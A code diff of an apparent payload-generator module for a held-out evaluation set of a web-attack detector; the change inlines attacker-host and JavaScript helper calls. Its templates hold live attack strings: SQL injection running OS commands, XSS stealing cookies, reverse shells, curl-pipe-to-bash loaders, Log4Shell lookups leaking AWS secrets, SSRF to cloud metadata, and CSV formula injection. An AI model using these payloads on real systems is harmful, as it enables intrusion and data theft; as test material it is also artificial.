@@ -15,8 +15,7 @@ used only to measure, never to train, calibrate or choose.
 
 Text: the templates here draw people's text straight from the pools below (``_say``), not through ``site._text``, so
 the same items come out whatever side a ``site.Draw`` says it is on (the pools are the third exam's alone: there is
-nothing to hold out inside them). ``site.Draw.text`` also maps the site's own pools to these when a template of
-another module draws for ``exam3``.
+nothing to hold out inside them).
 """
 
 from __future__ import annotations
@@ -482,16 +481,8 @@ TEMPLATES: tuple[Template, ...] = (
 # ---------------------------------------------------------------------------- payloads
 
 
-def _host(rng: random.Random) -> str:
-    return attacks._host(rng)
-
-
 def _n(rng: random.Random) -> str:
     return str(rng.randint(1, 9999))
-
-
-def _js(rng: random.Random) -> str:
-    return attacks._jsfn(rng)
 
 
 def _b64(text: str) -> str:
@@ -562,14 +553,14 @@ def _local_dtd(rng: random.Random) -> str:
 PRODUCTIONS: tuple[Production, ...] = (
     # SQL: PostgreSQL dollar quotes and COPY ... PROGRAM, MSSQL OLE automation, INSERT contexts, sqlmap's BETWEEN/RLIKE forms, ClickHouse
     Production("exam3.sqli.pg_program", "sqli", lambda r: r.choice((
-        f"{_n(r)}';COPY (SELECT '') TO PROGRAM '{r.choice(('id', 'curl ' + _host(r), 'nslookup ' + _host(r)))}'--",
+        f"{_n(r)}';COPY (SELECT '') TO PROGRAM '{r.choice(('id', 'curl ' + attacks._host(r), 'nslookup ' + attacks._host(r)))}'--",
         f"{_n(r)};CREATE TABLE t{(k := r.randint(1, 999))}(o text);COPY t{k} FROM PROGRAM 'id';SELECT * FROM t{k}--",
         f"{_n(r)}' AND 1=CAST((SELECT $${r.choice('abc')}$$||current_setting($$data_directory$$)) AS int)--",
         f"{_n(r)}' AND 1=CAST(pg_read_file($$/etc/passwd$$,0,{r.choice((64, 200))}) AS int)--",
         f"{_n(r)}'||(SELECT $q$x$q$||pg_ls_dir($q$.$q$) LIMIT 1)||'"))),
     Production("exam3.sqli.mssql_ole", "sqli", lambda r: r.choice((
-        f"{_n(r)}';DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c {r.choice(('whoami', 'ping ' + _host(r)))}';--",
-        f"{_n(r)}' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server={_host(r)};uid=sa;pwd=x','SELECT 1')--",
+        f"{_n(r)}';DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c {r.choice(('whoami', 'ping ' + attacks._host(r)))}';--",
+        f"{_n(r)}' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server={attacks._host(r)};uid=sa;pwd=x','SELECT 1')--",
         f"{_n(r)}';EXEC sp_configure 'Ole Automation Procedures',1;RECONFIGURE;--",
         f"{_n(r)}' AND 1=(SELECT TOP 1 CAST(name+':'+CONVERT(varchar(max),password_hash,1) AS int) FROM sys.sql_logins)--"))),
     Production("exam3.sqli.insert_context", "sqli", lambda r: r.choice((
@@ -584,33 +575,33 @@ PRODUCTIONS: tuple[Production, ...] = (
         f"{_n(r)}' AND {(b := r.randint(1000, 9999))} BETWEEN {b} AND {b}-- {''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz') for _ in range(4))}"))),
     Production("exam3.sqli.clickhouse", "sqli", lambda r: r.choice((
         f"{_n(r)} UNION ALL SELECT name,engine FROM system.tables--",
-        f"{_n(r)}' AND 1=(SELECT count() FROM url('http://{_host(r)}/x','CSV','a String'))--",
+        f"{_n(r)}' AND 1=(SELECT count() FROM url('http://{attacks._host(r)}/x','CSV','a String'))--",
         f"{_n(r)}' UNION ALL SELECT * FROM file('/etc/passwd','LineAsString')--",
         f"{_n(r)} AND sleepEachRow({r.choice((1, 2, 3))})=0",
         f"{_n(r)}' UNION ALL SELECT user,query FROM system.query_log LIMIT {r.randint(1, 20)}--"))),
     # XSS: recent HTML events, srcdoc and data documents, meta/base hijacks, client-side framework directives
     Production("exam3.xss.new_events", "xss", lambda r: r.choice((
-        f"<div popover id=p{(k := r.randint(1, 99))} onbeforetoggle={_js(r)}>x</div><button popovertarget=p{k}>open</button>",
-        f'<x id=x tabindex=1 style="transition:outline 1s" ontransitionend={_js(r)}></x>',
-        f"<div style=overflow:auto;height:40px onscrollend={_js(r)}>{'<br>' * r.randint(8, 20)}</div>",
-        f"<dialog open onclose={_js(r)}><form method=dialog><button>x</button></form></dialog>",
-        f"<input type=search onsearch={_js(r)} autofocus>",
-        f"<video controls src=x onvolumechange={_js(r)}></video>"))),
+        f"<div popover id=p{(k := r.randint(1, 99))} onbeforetoggle={attacks._jsfn(r)}>x</div><button popovertarget=p{k}>open</button>",
+        f'<x id=x tabindex=1 style="transition:outline 1s" ontransitionend={attacks._jsfn(r)}></x>',
+        f"<div style=overflow:auto;height:40px onscrollend={attacks._jsfn(r)}>{'<br>' * r.randint(8, 20)}</div>",
+        f"<dialog open onclose={attacks._jsfn(r)}><form method=dialog><button>x</button></form></dialog>",
+        f"<input type=search onsearch={attacks._jsfn(r)} autofocus>",
+        f"<video controls src=x onvolumechange={attacks._jsfn(r)}></video>"))),
     Production("exam3.xss.srcdoc", "xss", lambda r: r.choice((
-        f'<iframe srcdoc="&lt;img src=x onerror={_js(r)}&gt;"></iframe>',
+        f'<iframe srcdoc="&lt;img src=x onerror={attacks._jsfn(r)}&gt;"></iframe>',
         f"<iframe srcdoc='<script>parent.{r.choice(('alert(document.domain)', 'print()', 'eval(atob(`YWxlcnQoMSk=`))'))}</script>'></iframe>",
         f'<object data="data:text/html;base64,{_HTML_SCRIPT}"></object>',
         f'<embed src="data:image/svg+xml;base64,{_SVG_ONLOAD}">',
         f'<svg><use href="data:image/svg+xml;base64,{_SVG_USE}#x"/></svg>'))),
     Production("exam3.xss.meta_base", "xss", lambda r: r.choice((
-        f'<base href="//{_host(r)}/">',
-        f'<meta http-equiv="refresh" content="0;url=javascript:{_js(r)}">',
+        f'<base href="//{attacks._host(r)}/">',
+        f'<meta http-equiv="refresh" content="0;url=javascript:{attacks._jsfn(r)}">',
         f'<meta http-equiv=refresh content="0; url=data:text/html;base64,{_HTML_SCRIPT}">',
-        f'<form><button formaction="javascript:{_js(r)}">Continue</button></form>',
-        f"<svg><a><animate attributeName=href values=javascript:{_js(r)} /><text x=20 y=20>Click</text></a></svg>"))),
+        f'<form><button formaction="javascript:{attacks._jsfn(r)}">Continue</button></form>',
+        f"<svg><a><animate attributeName=href values=javascript:{attacks._jsfn(r)} /><text x=20 y=20>Click</text></a></svg>"))),
     Production("exam3.xss.directives", "xss", lambda r: r.choice((
-        f'<div x-data x-init="{r.choice(("alert(1)", "alert(document.cookie)", "fetch(`//" + _host(r) + "/?c=`+document.cookie)"))}"></div>',
-        f'<div hx-get="//{_host(r)}/x" hx-trigger="load" hx-swap="outerHTML"></div>',
+        f'<div x-data x-init="{r.choice(("alert(1)", "alert(document.cookie)", "fetch(`//" + attacks._host(r) + "/?c=`+document.cookie)"))}"></div>',
+        f'<div hx-get="//{attacks._host(r)}/x" hx-trigger="load" hx-swap="outerHTML"></div>',
         "{{_c.constructor('alert(1)')()}}",
         "{{$el.ownerDocument.defaultView.alert(document.domain)}}",
         "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
@@ -627,21 +618,21 @@ PRODUCTIONS: tuple[Production, ...] = (
     # commands: cmd.exe caret and variable tricks, more reverse shells, fileless loaders, commands without spaces or names
     Production("exam3.cmdi.cmd_obfuscation", "cmdi", lambda r: r.choice((
         "&c^m^d /c who^am^i", "|set a=who&&set b=ami&&call %a%%b%",
-        f"&for /f %i in ('whoami') do nslookup %i.{_host(r)}",
+        f"&for /f %i in ('whoami') do nslookup %i.{attacks._host(r)}",
         f'&powershell -nop -c "IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\'{_PS_WHOAMI}\')))"',
         '|%COMSPEC% /c "ty^pe C:\\Windows\\win.ini"', '&cmd /v:on /c "set x=whoami&&!x!"'))),
     Production("exam3.cmdi.reverse_shells", "cmdi", lambda r: attacks._inject(r, r.choice((
-        f"busybox nc {_host(r)} 4444 -e sh", f"ncat --ssl {_host(r)} 443 -e /bin/bash",
-        f"zsh -c 'zmodload zsh/net/tcp && ztcp {_host(r)} 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
-        f"php -r '$s=fsockopen(\"{_host(r)}\",443);exec(\"sh <&3 >&3 2>&3\");'",
-        f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {_host(r)}:443 > /tmp/s; rm /tmp/s",
-        f"telnet {(h := _host(r))} 443 | /bin/sh | telnet {h} 444")))),
+        f"busybox nc {attacks._host(r)} 4444 -e sh", f"ncat --ssl {attacks._host(r)} 443 -e /bin/bash",
+        f"zsh -c 'zmodload zsh/net/tcp && ztcp {attacks._host(r)} 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+        f"php -r '$s=fsockopen(\"{attacks._host(r)}\",443);exec(\"sh <&3 >&3 2>&3\");'",
+        f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {attacks._host(r)}:443 > /tmp/s; rm /tmp/s",
+        f"telnet {(h := attacks._host(r))} 443 | /bin/sh | telnet {h} 444")))),
     Production("exam3.cmdi.fileless", "cmdi", lambda r: attacks._inject(r, r.choice((
-        f"curl -fsSL http://{_host(r)}/i.sh | sudo bash -s --",
-        f"python3 -c \"import urllib.request as u;exec(u.urlopen('http://{_host(r)}/p').read())\"",
-        f"exec 3<>/dev/tcp/{_host(r)}/80;echo -e 'GET /s HTTP/1.0\\r\\n\\r\\n'>&3;cat<&3|sh",
-        f"wget -q -O- http://{_host(r)}/k | perl",
-        f"cd /dev/shm||cd /tmp;curl -O http://{_host(r)}/x86_64;chmod 755 x86_64;./x86_64 {r.choice(('web', 'exploit', 'x'))}")))),
+        f"curl -fsSL http://{attacks._host(r)}/i.sh | sudo bash -s --",
+        f"python3 -c \"import urllib.request as u;exec(u.urlopen('http://{attacks._host(r)}/p').read())\"",
+        f"exec 3<>/dev/tcp/{attacks._host(r)}/80;echo -e 'GET /s HTTP/1.0\\r\\n\\r\\n'>&3;cat<&3|sh",
+        f"wget -q -O- http://{attacks._host(r)}/k | perl",
+        f"cd /dev/shm||cd /tmp;curl -O http://{attacks._host(r)}/x86_64;chmod 755 x86_64;./x86_64 {r.choice(('web', 'exploit', 'x'))}")))),
     Production("exam3.cmdi.no_space", "cmdi", lambda r: r.choice((
         ";cat</etc/passwd", "|cat$u /etc$u/passwd$u", ";$'\\143\\141\\164' /etc/passwd", ";tr 'a-z' 'n-za-m'<<<'vq'|sh", ";rev<<<'imaohw'|sh",
         ";X=$'cat\\x20/etc/passwd'&&$X", "&&IFS=,;`cat<<<cat,/etc/passwd`"))),
@@ -667,17 +658,17 @@ PRODUCTIONS: tuple[Production, ...] = (
     Production("exam3.xxe.local_dtd", "other", lambda r: _local_dtd(r), ("xml",)),
     # Log4Shell: the localhost#host bypass and lookups that leak data into the DNS name or path
     Production("exam3.jndi.lookups", "other", lambda r: r.choice((
-        f"${{jndi:ldap://127.0.0.1#{_host(r)}:1389/a}}", f"${{jndi:ldap://${{hostName}}.{_host(r)}/a}}", f"${{jndi:ldap://{_host(r)}/${{java:version}}}}",
-        f"${{jndi:dns://${{docker:containerId}}.{_host(r)}/}}", f"${{jndi:ldap://${{bundle:application:spring.datasource.password}}.{_host(r)}/x}}",
-        f"${{jndi:ldap://${{ctx:loginId}}.{_host(r)}/u}}", f"${{jndi:ldap://{_host(r)}/${{env:AWS_SECRET_ACCESS_KEY}}}}"))),
+        f"${{jndi:ldap://127.0.0.1#{attacks._host(r)}:1389/a}}", f"${{jndi:ldap://${{hostName}}.{attacks._host(r)}/a}}", f"${{jndi:ldap://{attacks._host(r)}/${{java:version}}}}",
+        f"${{jndi:dns://${{docker:containerId}}.{attacks._host(r)}/}}", f"${{jndi:ldap://${{bundle:application:spring.datasource.password}}.{attacks._host(r)}/x}}",
+        f"${{jndi:ldap://${{ctx:loginId}}.{attacks._host(r)}/u}}", f"${{jndi:ldap://{attacks._host(r)}/${{env:AWS_SECRET_ACCESS_KEY}}}}"))),
     # SSRF through URL-parser disagreements and octal or mapped spellings of the metadata address
     Production("exam3.ssrf.parser_confusion", "other", lambda r: r.choice((
-        f"http://{_host(r)}@169.254.169.254/latest/meta-data/", "http://169.254.169.254\\@example.com/", "http://example.com#@127.0.0.1:8080/admin",
+        f"http://{attacks._host(r)}@169.254.169.254/latest/meta-data/", "http://169.254.169.254\\@example.com/", "http://example.com#@127.0.0.1:8080/admin",
         "http://0251.0376.0251.0376/latest/meta-data/", "http://127.0.0.1:80\\@example.com/", "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/",
         "http://169.254.169.254%2f@example.com/", "https://127.0.0.1:10250/pods", "http://169.254.169.254/openstack/latest/meta_data.json"))),
     # CRLF written as the UTF-8 of U+560A/U+560D (servers that truncate to Latin-1 keep CR and LF) and IIS %u escapes
     Production("exam3.crlf.unicode", "other", lambda r: f"{r.choice(('', '/', 'x', '%23'))}{r.choice(('%E5%98%8A%E5%98%8D', '%E5%98%8D%E5%98%8A', '%u000d%u000a'))}"
-                                                     f"{r.choice(('Set-Cookie:%20sid=' + _hex(r, 16), 'Location:%20//' + _host(r), 'Content-Type:%20text/html%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8D<svg%20onload=alert(1)>'))}", ("query", "path")),
+                                                     f"{r.choice(('Set-Cookie:%20sid=' + _hex(r, 16), 'Location:%20//' + attacks._host(r), 'Content-Type:%20text/html%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8D<svg%20onload=alert(1)>'))}", ("query", "path")),
     # ---- families no other side has
     # XPath injection: predicates and unions that bypass a lookup, and blind extraction with XPath functions
     Production("exam3.xpath.bypass", "other", lambda r: r.choice((
@@ -691,13 +682,13 @@ PRODUCTIONS: tuple[Production, ...] = (
         f"' and string-to-codepoints(substring(//user[1]/password,{r.randint(1, 16)},1))>{r.randint(48, 122)} and ''='"))),
     # Edge Side Includes: a cache or CDN that parses ESI fetches, reflects cookies, or adds headers
     Production("exam3.esi.include", "other", lambda r: r.choice((
-        f'<esi:include src="http://{_host(r)}/x"/>', '<esi:include src="/server-status"/>', f'x<esi:include src="http://{_host(r)}/?c=$(HTTP_COOKIE)"/>y',
-        "<esi:vars>$(HTTP_COOKIE{'PHPSESSID'})</esi:vars>", f"<!--esi $add_header('Location','http://{_host(r)}/') -->",
+        f'<esi:include src="http://{attacks._host(r)}/x"/>', '<esi:include src="/server-status"/>', f'x<esi:include src="http://{attacks._host(r)}/?c=$(HTTP_COOKIE)"/>y',
+        "<esi:vars>$(HTTP_COOKIE{'PHPSESSID'})</esi:vars>", f"<!--esi $add_header('Location','http://{attacks._host(r)}/') -->",
         '<esi:include src="http://localhost:8080/admin" alt="http://127.0.0.1/" onerror="continue"/>', "<esi:debug/>",
-        f'<esi:include src="http://{(h := _host(r))}/x.xml" dca="xslt" stylesheet="http://{h}/x.xsl"/>'))),
+        f'<esi:include src="http://{(h := attacks._host(r))}/x.xml" dca="xslt" stylesheet="http://{h}/x.xsl"/>'))),
     # Server-side includes: a page that is parsed for SSI directives runs commands and reads files
     Production("exam3.ssi.directive", "other", lambda r: r.choice((
-        '<!--#exec cmd="id" -->', f'<!--#exec cmd="{r.choice(("uname -a", "cat /etc/passwd", "wget http://" + _host(r) + "/s -O /tmp/s"))}" -->',
+        '<!--#exec cmd="id" -->', f'<!--#exec cmd="{r.choice(("uname -a", "cat /etc/passwd", "wget http://" + attacks._host(r) + "/s -O /tmp/s"))}" -->',
         '<!--#include virtual="/etc/passwd" -->', '<!--#echo var="DOCUMENT_ROOT" -->', "<!--#printenv -->", '<!--#include file="../../web.config" -->',
         '<!--#exec cgi="/cgi-bin/printenv.pl" -->'))),
     # GraphQL: schema introspection (also split by a newline past filters), field suggestions, and abuse of aliases,
@@ -710,9 +701,9 @@ PRODUCTIONS: tuple[Production, ...] = (
     Production("exam3.graphql.abuse", "other", _graphql_abuse, ("query", "json", "form")),
     # Spreadsheet formulas in a field an export writes to CSV: DDE command execution and data leaks by URL
     Production("exam3.csv.formula", "other", lambda r: r.choice((
-        "=cmd|' /C calc'!A0", f'=HYPERLINK("http://{_host(r)}/?leak="&A1&B1,"Click to view")', "@SUM(1+9)*cmd|' /C calc'!A0",
-        f'=IMPORTXML(CONCAT("http://{_host(r)}/?d=",CONCATENATE(A1:C3)),"//a")', f"=cmd|' /c powershell -w hidden -c iwr http://{_host(r)}/p.ps1|iex'!A0",
-        "-2+3+cmd|' /C notepad'!A0", f'=WEBSERVICE("http://{_host(r)}/"&A2)', '=DDE("cmd";"/C calc";"!A0")')), ("query", "form", "json")),
+        "=cmd|' /C calc'!A0", f'=HYPERLINK("http://{attacks._host(r)}/?leak="&A1&B1,"Click to view")', "@SUM(1+9)*cmd|' /C calc'!A0",
+        f'=IMPORTXML(CONCAT("http://{attacks._host(r)}/?d=",CONCATENATE(A1:C3)),"//a")', f"=cmd|' /c powershell -w hidden -c iwr http://{attacks._host(r)}/p.ps1|iex'!A0",
+        "-2+3+cmd|' /C notepad'!A0", f'=WEBSERVICE("http://{attacks._host(r)}/"&A2)', '=DDE("cmd";"/C calc";"!A0")')), ("query", "form", "json")),
 )
 
 # ---------------------------------------------------------------------------- probes
